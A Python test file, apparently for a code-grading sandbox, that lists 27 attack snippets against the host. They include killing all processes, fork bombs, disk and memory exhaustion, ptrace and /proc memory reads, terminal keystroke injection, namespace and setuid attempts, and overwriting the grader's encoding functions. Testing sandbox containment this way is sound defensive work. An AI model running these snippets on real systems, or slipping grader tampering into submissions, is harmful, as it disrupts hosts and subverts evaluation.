"""Attacks on the machine: on the host, on the next submission, on memory, disk and processes."""

from attack import Attack
from split import GONE, STUCK

HOST = [
    Attack("h01 looks into the memory of the host", """
import os
for pid in {os.getppid(), *(int(p) for p in (os.listdir("/proc") if os.access("/proc", os.R_OK) else []) if p.isdigit())}:
    if pid == os.getpid(): continue
    for name in ("mem", "environ", "maps", "fd", "root", "cwd"):
        try:
            place = f"/proc/{pid}/{name}"
            os.listdir(place) if name in ("fd", "root", "cwd") else open(place, "rb+" if name == "mem" else "rb").read(1)
            print("got" + " it", name, pid)
        except OSError: pass
"""),
    Attack("h02 traces the host", """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for request in (16, 0x4206):
    if libc.ptrace(request, os.getppid(), 0, 0) == 0: print("got" + " it")
data = ctypes.create_string_buffer(8)
class Part(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
here, there = Part(ctypes.addressof(data), 8), Part(0x400000, 8)
if libc.process_vm_readv(os.getppid(), ctypes.byref(here), 1, ctypes.byref(there), 1, 0) >= 0: print("got" + " it")
"""),
    Attack("h03 signals the host and everybody", """
import os, signal
mine = os.getpid()
for target in (os.getppid(), 1, 2, -os.getppid()):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGALRM):
        try: os.kill(target, number); print("got" + " it", target, number)
        except OSError: pass
try: signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL); print("got" + " it")
except OSError: pass
"""),
    Attack("h04 kills all that it may", "import os\nos.kill(-1, 9)\nos._exit(0)", reason=GONE),
    Attack("h05 limits the host", """
import os, resource
for pid in (os.getppid(), 1):
    for kind, most in ((resource.RLIMIT_NOFILE, 3), (resource.RLIMIT_CPU, 1), (resource.RLIMIT_FSIZE, 0)):
        try: resource.prlimit(pid, kind, (most, most)); print("got" + " it", kind)
        except OSError: pass
"""),
    Attack("h06 makes the host the last in line", """
import ctypes, os, struct
host, libc = os.getppid(), ctypes.CDLL(None, use_errno=True)
tries = (lambda: os.setpriority(os.PRIO_PROCESS, host, 19), lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19),
         lambda: os.sched_setaffinity(host, {0}), lambda: os.sched_setscheduler(host, os.SCHED_IDLE, os.sched_param(0)))
for attempt in tries:
    try: attempt(); print("got" + " it")
    except OSError: pass
if libc.syscall(251, 1, host, 3 << 13) == 0 and os.uname().machine == "x86_64": print("got" + " it: idle disk")
"""),
    Attack("h07 changes its own limits and place in line", """
import os, resource
for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC):
    hard = resource.getrlimit(kind)[1]
    try: resource.setrlimit(kind, (hard + 1, hard + 1)); print("got" + " it", kind)
    except (OSError, ValueError): pass
try: os.nice(5)
except OSError: pass
"""),
    Attack("h08 plays with prctl", """
import ctypes, os, signal
libc = ctypes.CDLL(None)
libc.prctl(4, 0, 0, 0, 0)      # not to be looked into
libc.prctl(36, 1, 0, 0, 0)     # adopts orphans
libc.prctl(1, 0, 0, 0, 0)      # no signal when the parent dies
libc.prctl(15, b"bwrap", 0, 0, 0)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        libc.prctl(4, 0, 0, 0, 0)
        os.execvp("sleep", ["sleep", "86397"])
    os._exit(0)
"""),
    Attack("h09 stops itself", "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)", reason=STUCK, seconds=1),
    Attack("h10 is stopped while its children work", """
import os, signal
for _ in range(10):
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        os.setsid()
        os.kill(os.getpid(), signal.SIGSTOP)
os.kill(os.getpid(), signal.SIGKILL)
""", reason=GONE),
    Attack("h11 counts in C without letting go", "sum(__import__('itertools').repeat(1))", reason=STUCK, seconds=1),
    Attack("h12 changes all that the next could inherit", """
import builtins, math, os, random, signal, sys, warnings, json, atexit
left = builtins.left = sys.modules["left"] = 1
math.pi = 3
random.seed(1); os.environ["LEFT"] = "1"; os.umask(0); os.chdir("/")
sys.path.insert(0, "/tmp"); sys.setrecursionlimit(50_000)
signal.signal(signal.SIGUSR1, lambda *given: None); signal.signal(signal.SIGPIPE, signal.SIG_IGN)
import crmlab.runner.student, crmlab.grading.answers
crmlab.grading.answers.encode = crmlab.runner.student.encode = None
import numpy; numpy.random.seed(1)
atexit.register(lambda: open("/tmp/left", "w"))
"""),
    Attack("h13 leaves files in every shared place", """
import os, mmap
from multiprocessing import shared_memory
for place in ("/tmp/left", "/dev/shm/left", "/dev/shm/psm_left", "/dev/shm/sem.left", "/var/tmp/left", "/run/left",
              "/dev/mqueue/left", os.path.expanduser("~/left"), "../left", "/dev/left", "/proc/self/comm"):
    try: open(place, "w").write("left")
    except OSError: pass
try: shared_memory.SharedMemory("left", create=True, size=1000)
except OSError: pass
"""),
    Attack("h14 keeps its folder from being deleted", """
import os
for shut in ("shut/inner", "other"):
    os.makedirs(shut)
    open(shut + "/file", "w").close()
    try: os.chmod(shut, 0)
    except OSError: pass
os.mkdir("dark", 0o300)
open("dark/file", "w").close()
try: os.chmod(".", 0)
except OSError: pass
os.rename(os.getcwd(), "/tmp/moved") if os.access("/tmp", os.W_OK) else None
""", reason="|more to the disk"),
    Attack("h15 makes files with holes", """
import os
try:
    with open("holes", "wb") as file: file.truncate(10**12)
    print("got" + " it")
except OSError: pass
with open("holes", "wb") as file: file.truncate(60_000_000)
"""),
    Attack("h16 uses up all files", """
import os
kept = []
try:
    while True: kept.append(os.open("/dev/null", os.O_RDONLY))
except OSError: print(len(kept) > 1000 and "got" + " it")
""", reason="|" + GONE, seconds=2),
    Attack("h17 forks again whenever one of its own is killed", """
import os, signal, time
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True:
    try: os.fork()
    except OSError: pass
    time.sleep(0.02)
""", reason="more processes|more memory|could not be stopped", seconds=5),
    Attack("h18 starts thousands of threads", """
import threading, time
try:
    for _ in range(5_000): threading.Thread(target=time.sleep, args=(3,), daemon=True).start()
    print("got" + " it")
except RuntimeError: pass
""", reason="|more|" + GONE, seconds=10),
    Attack("h19 fills the disk where one cannot look", """
import os
os.mkdir("dark", 0o300)
for n in range(20):
    try: open(f"dark/big{n}", "wb").write(bytes(60_000_000))
    except OSError: break
else:
    import time; time.sleep(1); print("got" + " it")
""", reason="|more to the disk", seconds=30),
    Attack("h20 fills the disk deeper than a path can name", """
import os
for _ in range(2_500):
    os.mkdir("d"); os.chdir("d")
for n in range(20):
    try: open(f"big{n}", "wb").write(bytes(60_000_000))
    except OSError: break
else:
    import time; time.sleep(1); print("got" + " it")
""", reason="|more to the disk", seconds=30),
    Attack("h21 fills the memory that is shared", """
try:
    for n in range(40): open(f"/dev/shm/big{n}", "wb").write(bytes(60_000_000))
    print("got" + " it")
except OSError: pass
"""),
    Attack("h22 fills the memory with files that have no name", """
import os
kept = []
try:
    for n in range(40):
        kept.append(os.memfd_create("big"))
        os.write(kept[-1], bytes(60_000_000))
    print("got" + " it")
except OSError: pass
""", reason="|more", seconds=30),
    Attack("h23 fills the memory with pages that nobody has mapped in", """
import mmap, time
kept = mmap.mmap(-1, 2_500_000_000)
for start in range(0, 2_500_000_000, 100_000_000):
    for place in range(start, start + 100_000_000, 4096): kept[place] = 1
    kept.madvise(mmap.MADV_DONTNEED)
time.sleep(1)
print("got" + " it")
""", reason="|more memory", seconds=60),
    Attack("h24 fills the memory and lets nobody look", """
import ctypes, mmap, time
ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
kept = mmap.mmap(-1, 2_500_000_000)
for start in range(0, 2_500_000_000, 100_000_000):
    for place in range(start, start + 100_000_000, 4096): kept[place] = 1
    kept.madvise(mmap.MADV_DONTNEED)
time.sleep(1)
print("got" + " it")
""", reason="|more memory", seconds=60),
    Attack("h25 makes namespaces, mounts and keys", """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.unshare.argtypes = [ctypes.c_int]
tries = {"unshare user": libc.unshare(0x10000000), "unshare mounts": libc.unshare(0x20000),
         "mount": libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), "chroot": libc.chroot(b"/"),
         "setuid": libc.setuid(0), "setgid": libc.setgid(0), "key": libc.syscall(250, 0, -3, 0)}
print([("got" + " it", name) for name, came in tries.items() if came >= 0])
"""),
    Attack("h26 opens sockets of every family", """
import socket
for family in range(0, 46):
    for kind in (1, 2, 3):
        try: socket.socket(family, kind).close(); print("got" + " it", family, kind)
        except (OSError, ValueError): pass
"""),
    Attack("h27 types into the terminal of others", """
import fcntl, glob, os
for place in ["/dev/tty", "/dev/console", *glob.glob("/dev/pts/*"), "/dev/mem", "/dev/kmsg"]:
    try:
        file = os.open(place, os.O_RDWR | os.O_NOCTTY)
        fcntl.ioctl(file, 0x5412, b"x"); print("got" + " it", place)
    except OSError: pass
"""),
]  # fmt: skip
